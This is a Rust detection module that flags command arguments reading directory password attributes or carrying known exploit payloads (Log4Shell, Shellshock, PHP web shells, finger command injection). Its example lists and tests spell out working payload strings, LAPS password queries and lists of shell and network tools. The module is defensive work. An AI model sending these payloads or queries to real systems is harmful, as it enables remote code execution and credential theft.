//! Words inside a command's arguments that say what the call does,
//! whichever program is handed them: the directory attributes that hold
//! passwords (`ldapsearch ... ms-Mcs-AdmPwd`, LAPS's password read), and
//! the published payloads of server exploits (`${jndi:ldap://...}` in a
//! request header: Log4Shell; `() { :; };` in one: Shellshock). A client
//! nobody wrote a row for is judged by them all the same (ppnb, session
//! 50: `ldapsearch -x -b ... '(ms-MCS-AdmPwd=*)' ms-MCS-AdmPwd` and `curl
//! -H 'Accept-Language: ${jndi:ldap://...}'` passed).

/// A directory attribute whose value is a password or a key.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct SecretAttribute {
    /// The attribute's name, in lower case.
    pub name: &'static str,
    /// What its value is, completing "reads ...".
    pub what: &'static str,
}

/// The attributes (names compared whole and case-insensitively:
/// `ms-Mcs-AdmPwdExpirationTime` is no password). Sources: Microsoft's
/// LAPS documentation (https://learn.microsoft.com/windows-server/identity/laps/laps-technical-reference:
/// ms-Mcs-AdmPwd, msLAPS-Password, msLAPS-EncryptedPassword,
/// msLAPS-EncryptedDSRMPassword), the AD schema (msDS-ManagedPassword:
/// gMSA passwords; unicodePwd, supplementalCredentials: hashes a
/// replication read returns), RFC 2256 and OpenLDAP (userPassword), Samba's
/// schema (sambaNTPassword, sambaLMPassword); ATT&CK T1552, T1555.
pub const SECRET_ATTRIBUTES: &[SecretAttribute] = &[
    SecretAttribute {
        name: "ms-mcs-admpwd",
        what: "computers' LAPS passwords",
    },
    SecretAttribute {
        name: "mslaps-password",
        what: "computers' LAPS passwords",
    },
    SecretAttribute {
        name: "mslaps-encryptedpassword",
        what: "computers' LAPS passwords",
    },
    SecretAttribute {
        name: "mslaps-encrypteddsrmpassword",
        what: "domain controllers' DSRM passwords",
    },
    SecretAttribute {
        name: "msds-managedpassword",
        what: "group managed service accounts' passwords",
    },
    SecretAttribute {
        name: "unicodepwd",
        what: "accounts' password hashes",
    },
    SecretAttribute {
        name: "supplementalcredentials",
        what: "accounts' stored credentials",
    },
    SecretAttribute {
        name: "userpassword",
        what: "accounts' passwords",
    },
    SecretAttribute {
        name: "sambantpassword",
        what: "accounts' NT hashes",
    },
    SecretAttribute {
        name: "sambalmpassword",
        what: "accounts' LM hashes",
    },
];

/// Parts one of which every attribute's name holds (a test checks).
const TELLING_PARTS: &[&str] = &["pwd", "password", "credentials"];

/// The secret attribute an argument names, if any: a whole name among the
/// argument's words (split at anything but letters, digits and `-`).
pub fn secret_attribute(arg: &str) -> Option<&'static SecretAttribute> {
    // Every argument of every call passes here: an argument with none of
    // the names' telling parts (`pwd`, `password`, `credentials`) is
    // answered without allocating.
    if !TELLING_PARTS.iter().any(|t| contains_ignore_case(arg, t)) {
        return None;
    }
    let lower = arg.to_ascii_lowercase();
    lower
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
        .find_map(|w| SECRET_ATTRIBUTES.iter().find(|a| a.name == w))
}

/// A server exploit's payload, recognised in any argument.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ExploitPayload {
    /// The payload's name and CVE.
    pub what: &'static str,
    /// Where the knowledge comes from.
    pub source: &'static str,
}

/// Log4Shell: a JNDI lookup the logging library resolves, loading code
/// from the named server.
pub const LOG4SHELL: ExploitPayload = ExploitPayload {
    what: "a Log4Shell JNDI lookup (CVE-2021-44228)",
    source: "https://logging.apache.org/log4j/2.x/security.html (CVE-2021-44228; lookups nest, so ${${lower:j}ndi:...} is the same payload)",
};

/// Shellshock: a function definition bash runs the trailing commands of
/// when it imports the variable.
pub const SHELLSHOCK: ExploitPayload = ExploitPayload {
    what: "a Shellshock function definition (CVE-2014-6271)",
    source: "https://nvd.nist.gov/vuln/detail/CVE-2014-6271 (an environment value starting with `() {` and commands after its body)",
};

/// A PHP web shell: code that runs what each request sends (`<?php
/// system($_GET["cmd"]); ?>`), sent to a server in a header, a field or
/// a file name, so that the server logs or stores it and then runs it
/// (log poisoning, an upload: ppnc, session 51).
pub const PHP_WEBSHELL: ExploitPayload = ExploitPayload {
    what: "a PHP web shell (code that runs the commands each request sends)",
    source: "https://attack.mitre.org/techniques/T1505/003/ (web shells); https://www.php.net/manual/en/ref.exec.php (system, exec, passthru, shell_exec, popen, proc_open) and the request superglobals ($_GET, $_POST, $_REQUEST, $_COOKIE)",
};

/// PHP code that runs a command, sent to a server in a request: through
/// an include of a `data://` or `php://input` URL, an upload or a
/// poisoned log the server runs it (`curl "http://x/index.php?page=data://
/// text/plain,<?php system('uname -a');?>"`: oscpn part 3, session 66).
pub const PHP_COMMAND: ExploitPayload = ExploitPayload {
    what: "PHP code that runs a command on the server that includes it",
    source: "https://www.php.net/manual/en/wrappers.data.php (data:// streams included as code when allow_url_include is on); https://www.php.net/manual/en/ref.exec.php (system, exec, passthru, shell_exec, popen, proc_open); HackTricks File Inclusion (data:// and php://input)",
};

/// A command handed to a web shell already on a server: a request field
/// named for a command whose value is a command line (`?cmd=whoami`,
/// `--data "cmd=bash -c /tmp/evil"`: cgod part 6, session 64). The
/// script on the server runs it.
pub const WEBSHELL_COMMAND: ExploitPayload = ExploitPayload {
    what: "a command to a web shell (a request field the script on the server runs)",
    source: "https://attack.mitre.org/techniques/T1505/003/ (web shells take the command from a request field, conventionally cmd); https://github.com/tennc/webshell (the fields the collected shells read: cmd, c, command, exec)",
};

/// A finger query for a user named `|CMD`: old fingerd (BSD, Solaris)
/// ran it as a command and sent back its output (`finger
/// "|/bin/id@host"`; spn part 2, session 65).
pub const FINGER_COMMAND: ExploitPayload = ExploitPayload {
    what: "a command for the finger server to run (`|CMD@host`)",
    source: "CVE-1999-0152 (fingerd runs a user name starting with | as a command); https://book.hacktricks.wiki/network-services-pentesting/pentesting-finger (Finger command execution)",
};

/// The request fields web shells take their command from.
const WEBSHELL_FIELDS: &[&str] = &["cmd", "c", "command", "exec", "execute", "shell"];

/// Programs a command sent to a web shell starts with: shells and
/// interpreters, and the probes and fetchers run first on a server
/// reached this way. A field's value that starts with none of them
/// (`?cmd=status`) is an application's own parameter.
const WEBSHELL_PROGRAMS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "cmd",
    "powershell",
    "pwsh",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "curl",
    "wget",
    "certutil",
    "bitsadmin",
    "whoami",
    "id",
    "uname",
    "hostname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "ps",
    "tasklist",
    "systeminfo",
    "cat",
    "type",
    "ls",
    "dir",
    "pwd",
    "echo",
    "env",
    "net",
    "rm",
    "chmod",
    "mkfifo",
];

/// Whether a request's argument (a URL, or a form body such as curl's
/// `--data` value) hands a web shell a command: a field of
/// [`WEBSHELL_FIELDS`] whose value, decoded, starts with a program of
/// [`WEBSHELL_PROGRAMS`].
pub fn webshell_command(arg: &str) -> bool {
    // Every argument of every fetch passes here: a field needs `=`.
    if !arg.contains('=') {
        return false;
    }
    let fields = if arg.contains("://") {
        match arg.split_once('?') {
            Some((_, query)) => query.split('#').next().unwrap_or(query),
            None => return false,
        }
    } else {
        arg
    };
    fields.split('&').any(|field| {
        let Some((key, value)) = field.split_once('=') else {
            return false;
        };
        if !WEBSHELL_FIELDS.contains(&key.trim().to_ascii_lowercase().as_str()) {
            return false;
        }
        let value = percent_decoded(&value.replace('+', " "));
        let first = value.split_whitespace().next().unwrap_or_default();
        let program = first
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(first)
            .to_ascii_lowercase();
        let program = program.strip_suffix(".exe").unwrap_or(&program);
        WEBSHELL_PROGRAMS.contains(&program)
    })
}

/// PHP's functions that run a command or code, as a web shell calls them.
const PHP_RUNNERS: &[&str] = &[
    "system(",
    "exec(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "eval(",
    "assert(",
    "create_function(",
];

/// The request's values a web shell takes its command from.
const PHP_REQUEST: &[&str] = &[
    "$_get",
    "$_post",
    "$_request",
    "$_cookie",
    "$_server",
    "$_files",
];

/// The payload an argument carries, if any. Log4j's nested lookups
/// (`${lower:j}`, `${::-j}`, `${env:X:-j}`) are resolved to their last
/// part first, as log4j would.
pub fn exploit_payload(arg: &str) -> Option<&'static ExploitPayload> {
    // Every argument of every call passes here: without `${`, `%` or `(`
    // no payload can be spelled, and nothing is allocated.
    if !arg.contains("${") && !arg.contains('%') && !arg.contains('(') {
        return None;
    }
    // A URL's query carries it percent-encoded (`%24%7Bjndi%3A...`).
    let lower = percent_decoded(&arg.to_ascii_lowercase());
    if lower.contains("${") && resolve_lookups(&lower).contains("${jndi:") {
        return Some(&LOG4SHELL);
    }
    // The definition opens the value (a header's, after its name): a
    // function the shell defines has its name before `()`.
    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    let opens_value = squeezed.match_indices("(){").any(|(i, _)| {
        let before = squeezed.get(..i).and_then(|b| b.chars().last());
        matches!(before, None | Some(':' | '=' | '\'' | '"'))
    });
    if opens_value && squeezed.contains("};") {
        return Some(&SHELLSHOCK);
    }
    let php = lower.contains("<?php") || lower.contains("<?=") || lower.contains("<? ");
    if !(php && PHP_RUNNERS.iter().any(|r| squeezed.contains(r))) {
        return None;
    }
    Some(if PHP_REQUEST.iter().any(|q| squeezed.contains(q)) {
        &PHP_WEBSHELL
    } else {
        &PHP_COMMAND
    })
}

/// Whether `text` contains `needle` (lower-case ASCII), ignoring ASCII case.
fn contains_ignore_case(text: &str, needle: &str) -> bool {
    text.as_bytes()
        .windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle.as_bytes()))
}

/// `text` with its `%XX` escapes decoded (bytes that are no UTF-8 kept
/// as they were written).
fn percent_decoded(text: &str) -> String {
    if !text.contains('%') {
        return text.to_owned();
    }
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match hex {
            Some(v) if b == b'%' => {
                out.push(v);
                i += 3;
            }
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8(out).unwrap_or_else(|_| text.to_owned())
}

/// Log4j's nested lookups replaced by what they give: `${lower:j}` is
/// `j`, `${::-j}` and `${env:NAME:-j}` are `j` (their default). Bounded:
/// each pass removes a lookup, and there are at most as many as `${`.
fn resolve_lookups(text: &str) -> String {
    let mut s = text.to_owned();
    for _ in 0..text.matches("${").count() {
        let Some(start) = find_inner_lookup(&s) else {
            break;
        };
        let Some(len) = s.get(start..).and_then(|r| r.find('}')) else {
            break;
        };
        let body = s.get(start + 2..start + len).unwrap_or("");
        // `jndi:` itself stays: it is what is looked for.
        if body.starts_with("jndi:") {
            break;
        }
        let value = body
            .rsplit_once(":-")
            .map(|(_, v)| v)
            .or_else(|| body.split_once(':').map(|(_, v)| v))
            .unwrap_or(body);
        let replaced = format!(
            "{}{}{}",
            s.get(..start).unwrap_or(""),
            value,
            s.get(start + len + 1..).unwrap_or("")
        );
        s = replaced;
    }
    s
}

/// The start of a `${...}` with no `${` inside it (the innermost).
fn find_inner_lookup(s: &str) -> Option<usize> {
    let mut best = None;
    let mut from = 0;
    while let Some(i) = s.get(from..).and_then(|r| r.find("${")) {
        let at = from + i;
        let close = s.get(at..).and_then(|r| r.find('}')).map(|c| at + c);
        let next_open = s
            .get(at + 2..)
            .and_then(|r| r.find("${"))
            .map(|o| at + 2 + o);
        match (close, next_open) {
            (Some(c), Some(o)) if o < c => from = o,
            (Some(_), _) => {
                if !s.get(at + 2..).is_some_and(|r| r.starts_with("jndi:")) {
                    best = Some(at);
                    break;
                }
                from = at + 2;
            }
            (None, _) => break,
        }
    }
    best
}

/// Commands the risk engine must flag as credential access for the
/// attribute they read, and commands it must leave clean.
pub const SECRET_ATTRIBUTE_EXAMPLES: (&[&str], &[&str]) = (
    &[
        "ldapsearch -h 10.0.0.1 -x -b 'dc=corp,dc=local' '(ms-MCS-AdmPwd=*)' ms-MCS-AdmPwd",
        "ldeep ldap -u user -p pass -d corp.local -s ldap://10.0.0.1 search '(objectClass=computer)' msLAPS-Password",
        "ldapsearch -x -H ldap://ldap.example.org -b dc=example,dc=org uid=jdoe userPassword",
    ],
    &[
        "ldapsearch -x -b 'dc=corp,dc=local' '(objectClass=computer)' ms-Mcs-AdmPwdExpirationTime",
        "ldapsearch -x -b 'dc=corp,dc=local' '(uid=jdoe)' cn mail",
        "echo userPassword",
    ],
);

/// Commands the risk engine must flag as remote code execution for the
/// payload they send, and commands it must leave clean.
pub const PAYLOAD_EXAMPLES: (&[&str], &[&str]) = (
    &[
        "curl -vvk https://vdi.example.com/portal/info.jsp -H 'Accept-Language: ${jndi:ldap://x.oastify.com:1337/test}'",
        "curl -A '${${lower:j}ndi:ldap://x.example/a}' https://app.example.com/",
        "curl -H \"User-Agent: () { :; }; /bin/bash -c 'id'\" http://10.0.0.5/cgi-bin/status",
        "curl -X POST 'http://127.0.0.1/vuln1.php' --form 'submit=Generate pdf' --referer 'http://nowhere.com/<?php system($_GET[\"cmd\"]); ?>'",
        "curl -A '<?php passthru($_REQUEST[c]); ?>' http://10.0.0.5/",
        "curl 'http://10.0.0.5/uploads/s.php?cmd=whoami'",
        "curl -s --data 'cmd=bash -c /tmp/evil' http://10.0.0.5/files/sh.php",
        "wget -qO- 'http://10.0.0.5/cmd.jsp?cmd=cat%20/etc/passwd'",
        "finger \"|/bin/id@example.com\"",
        "finger '|/bin/ls -a /@example.com'",
        "curl \"http://mountaindesserts.com/meteor/index.php?page=data://text/plain,<?php%20echo%20system('uname%20-a');?>\"",
        "curl -X POST --data '<?php exec(\"id\"); ?>' 'http://10.0.0.5/index.php?page=php://input'",
    ],
    &[
        "finger admin@example.com",
        "finger -l user",
        "curl -H 'Accept-Language: en' https://example.com/",
        "f() { :; }; f",
        "echo \"${HOME}\"",
        "curl -d '<?php echo phpversion(); ?>' http://localhost:8080/",
        "echo '<?php system(\"ls\"); ?>' > tools/list.php",
        "php -r 'system(\"ls\");'",
        "curl 'http://localhost:8080/api?cmd=status'",
        "curl 'https://example.com/search?q=cat+food'",
        "echo 'http://10.0.0.5/s.php?cmd=id'",
    ],
);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attributes_are_whole_words_in_lower_case() {
        let mut seen = std::collections::HashSet::new();
        for a in SECRET_ATTRIBUTES {
            assert_eq!(a.name, a.name.to_ascii_lowercase());
            assert!(seen.insert(a.name), "{} twice", a.name);
            assert!(
                TELLING_PARTS.iter().any(|t| a.name.contains(t)),
                "{}",
                a.name
            );
            assert_eq!(secret_attribute(&format!("({}=*)", a.name)), Some(a));
        }
        assert_eq!(secret_attribute("ms-Mcs-AdmPwdExpirationTime"), None);
        assert_eq!(
            secret_attribute("(ms-MCS-AdmPwd=*)").map(|a| a.name),
            Some("ms-mcs-admpwd")
        );
    }

    #[test]
    fn payloads_in_their_spellings() {
        for p in [
            "Accept-Language: ${jndi:ldap://x.oastify.com:1337/test}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
            "User-Agent: () { :; }; /bin/bash -c 'id'",
            "() { :;}; echo; /bin/cat /etc/passwd",
            "http://t.example/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
        ] {
            assert!(exploit_payload(p).is_some(), "{p}");
        }
        for p in [
            "${HOME}/x",
            "${lower:abc}",
            "f() { :; }",
            "f() { :; }; f",
            "{ :; }",
            "jndi:ldap://x",
        ] {
            assert!(exploit_payload(p).is_none(), "{p}");
        }
    }
}
